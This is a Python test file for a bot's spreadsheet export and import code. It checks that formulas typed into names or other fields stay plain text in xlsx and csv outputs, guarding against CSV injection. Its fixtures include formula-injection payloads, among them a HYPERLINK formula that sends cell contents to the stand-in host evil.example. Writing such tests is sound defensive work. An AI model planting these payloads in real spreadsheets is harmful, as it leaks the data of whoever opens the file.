"""Spreadsheets the bot writes keep user text as text: a formula typed into a name or a decision
number is never evaluated when the export or the findings file is opened (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl

from bot.dossier.findings import CheckResult, Finding
from bot.dossier.report import findings_xlsx
from bot.transfer.service import export_kind, import_kind
from bot.transfer.table import read_table, write_table
from e2e.support import dossier_kb, knowledge_base
from knowledge.dossier_schema import Severity
from tests.status.conftest import Province

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bam")'
HOSTILE = [HYPERLINK, "+84 912 000 111", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_a_formula_stays_text_in_a_written_xlsx() -> None:
    rows = [{"name": value, "count": 3} for value in HOSTILE]
    content = write_table("x.xlsx", ["name", "count"], rows)
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in cells if c.column == 1][1:]
    assert names == HOSTILE
    assert [c.value for c in cells if c.column == 2][1:] == [3] * len(HOSTILE)  # numbers stay


def test_a_formula_stays_text_in_a_written_csv_and_reads_back_as_typed() -> None:
    rows = [{"name": value, "count": 3} for value in [*HOSTILE, "Lê Văn 'An"]]
    content = write_table("x.csv", ["name", "count"], rows)
    written = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [r[0] for r in written[1 : len(HOSTILE) + 1]] == ["'" + v for v in HOSTILE]
    assert written[-1][0] == "Lê Văn 'An"
    _, read = read_table("x.csv", content)
    assert [r.values["name"] for r in read][: len(HOSTILE)] == [v.strip() for v in HOSTILE]


async def test_a_formula_in_an_imported_name_stays_text_in_the_dossier_export(
    province: Province, pinned_now: dt.datetime
) -> None:
    table = write_table(
        "in.xlsx",
        ["code", "status", "unit", "award", "nominees"],
        [
            {
                "code": "",
                "status": "draft",
                "unit": "SYT",
                "award": "giay_khen",
                "nominees": HYPERLINK,
            }
        ],
    )
    assert await import_kind(
        province.db, "dossiers", "in.xlsx", table, pinned_now, None, kb=knowledge_base()
    ) == 1
    xlsx, _ = await export_kind(province.db, "dossiers", "out.xlsx")
    cells = _cells(xlsx)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert HYPERLINK in [c.value for c in cells]
    csv_bytes, _ = await export_kind(province.db, "dossiers", "out.csv")
    assert "'" + HYPERLINK in [
        cell for row in csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))) for cell in row
    ]


def test_a_formula_in_a_nominee_name_stays_text_in_the_findings_file() -> None:
    finding = Finding("missing_document", Severity.ERROR, "=1+1", "@fix", nominee="n1")
    content = findings_xlsx(CheckResult((finding,), 1, "2026"), {"n1": HYPERLINK}, kb=dossier_kb())
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {HYPERLINK, "=1+1", "@fix"} <= {c.value for c in cells}
